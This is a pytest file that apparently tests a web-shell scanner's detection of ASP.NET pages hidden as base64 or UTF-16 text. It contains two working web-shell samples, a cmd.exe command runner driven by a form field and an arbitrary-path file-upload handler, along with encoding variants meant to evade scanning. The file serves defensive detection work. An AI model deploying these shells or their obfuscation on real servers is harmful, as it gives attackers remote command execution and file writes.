"""Pages kept as base64 text (once or a few times over): the file holds no code until decoded,
so the page it decodes to is analysed and, when that page's code does what a finding reports,
the file is `EXH-WS-CODE-ENCODED-PAGE` (docs/detection/webshell-code.md, "Pages kept as base64
text"). Genuine files that are base64 text, or pages that hold a base64 string, are not."""

from __future__ import annotations

import base64

import pytest

from code_support import assert_found, medium_or_above, run
from exhunt.codeanalysis.analysis import analyze_code
from exhunt.codeanalysis.encoded import encoded_page
from exhunt.filehunt import codehunt
from exhunt.filehunt.locations import Location, Place

RUNNER = b"""<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]) {
        RedirectStandardOutput = true, UseShellExecute = false });
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>"""

SAVER = b"""<%@ WebHandler Language="C#" Class="Keep" %>
using System.IO;
using System.Web;
public class Keep : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx) {
        ctx.Request.Files[0].SaveAs(ctx.Request.QueryString["to"]);
    }
}"""

HELLO = b"""<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) { greeting.Text = "Hello " + DateTime.Now.Year; }
</script>
<asp:Label ID="greeting" runat="server" />"""


def b64(data: bytes, times: int = 1, wrap: int = 0) -> bytes:
    for _ in range(times):
        data = base64.b64encode(data)
    if wrap:
        data = b"\r\n".join(data[i : i + wrap] for i in range(0, len(data), wrap))
    return data


SHELLS = [
    ("once.aspx", b64(RUNNER), "once", "form field 'c'"),
    ("twice.aspx", b64(RUNNER, 2), "2 times over", "runs it as a command"),
    ("wrapped.ashx", b"\xef\xbb\xbf" + b64(SAVER, wrap=76) + b"\r\n", "once", "uploaded file"),
]

# The base64 text saved as UTF-16 (PowerShell 5.1's `>` writes UTF-16LE with its mark), or the
# page encoded from its UTF-16 bytes; both once and over layers.
WIDE = [
    ("wide.aspx", b"\xff\xfe" + (b64(RUNNER, wrap=76) + b"\r\n").decode().encode("utf-16-le"), "once"),
    ("wide-be.aspx", b64(RUNNER, 2).decode().encode("utf-16-be"), "2 times over"),
    ("wide-page.aspx", b64(RUNNER.decode().encode("utf-16")), "once"),
    ("wide-both.ashx", b64(b64(SAVER.decode().encode("utf-16"))).decode().encode("utf-16"), "2 times over"),
]


@pytest.mark.parametrize(("name", "data", "times"), WIDE, ids=[w[0] for w in WIDE])
def test_encoded_shell_in_utf16_found(name: str, data: bytes, times: str) -> None:
    report = analyze_code(data, name)
    found = [c for c in report.capabilities if c.rule_id == "EXH-WS-CODE-ENCODED-PAGE"]
    assert found, [c.chain for c in report.capabilities]
    assert times in found[0].chain
    assert codehunt.wants(Location(f"c:/inetpub/wwwroot/{name}", Place.IIS_WEBROOT, True), data)


@pytest.mark.parametrize(("name", "data", "times", "does"), SHELLS, ids=[s[0] for s in SHELLS])
def test_encoded_shell_found(name: str, data: bytes, times: str, does: str) -> None:
    report = assert_found(name, data.decode(), "EXH-WS-CODE-ENCODED-PAGE", [times, does])
    assert report.units >= 1


def test_encoded_page_layers() -> None:
    assert encoded_page(b64(RUNNER, 3)) == (3, RUNNER)
    assert encoded_page(b64(RUNNER, 4)) is None  # past the layers it decodes
    assert encoded_page(b64(b"\x89PNG\r\n\x1a\n" + bytes(range(200)))) is None  # an image, not a page


BENIGN = [
    # A genuine page kept encoded (an export of a site's pages): its code does nothing reported.
    ("export.aspx", b64(HELLO)),
    # Base64 text that is not a page at all.
    ("logo.aspx", b64(b"GIF89a" + bytes(range(256)) * 2, wrap=76)),
    # A page holding a base64 string (an embedded image), not made of one.
    (
        "badge.aspx",
        b'<%@ Page Language="C#" %><img src="data:image/png;base64,'
        + b64(bytes(range(120)))
        + b'" /><% Response.Write(Request.QueryString["n"] == null ? "" : "hi"); %>',
    ),
]


@pytest.mark.parametrize(("name", "data"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, data: bytes) -> None:
    report = run(name, data.decode())
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


def test_prefilter_reads_an_encoded_page_and_not_other_base64() -> None:
    def wants(name: str, data: bytes) -> bool:
        return codehunt.wants(Location(f"c:/inetpub/wwwroot/{name}", Place.IIS_WEBROOT, True), data)

    assert wants("once.aspx", b64(RUNNER))
    assert wants("twice.aspx", b64(RUNNER, 2))
    assert not wants("logo.aspx", b64(b"GIF89a" + bytes(range(256))))
    assert not wants("notes.aspx", b"plain words about base64 and nothing else, no code in them at all")
    # UTF-16 text that is not base64 alone, or base64 of no page, is not read as a kept page.
    assert not wants("logo.aspx", b64(b"GIF89a" + bytes(range(256))).decode().encode("utf-16"))
    assert not wants("words.aspx", "Ünïcode words about base64, not a page at all".encode("utf-16"))
